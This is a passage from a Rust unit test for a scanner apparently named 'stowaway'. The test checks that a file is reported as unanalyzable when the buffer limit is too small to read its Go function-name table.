    opts.limits.max_file_buffer = 64 << 10;
    let s = stowaway::scan(&r, &opts).unwrap();
    let f = finding(&s, "/opt/dl", Code::Unanalyzable);
    assert!(
        f.evidence
            .iter()
            .any(|e| e.contains("Go function-name table") && e.contains("--max-file-buffer")),
        "{:?}",
        f.evidence
    );
}
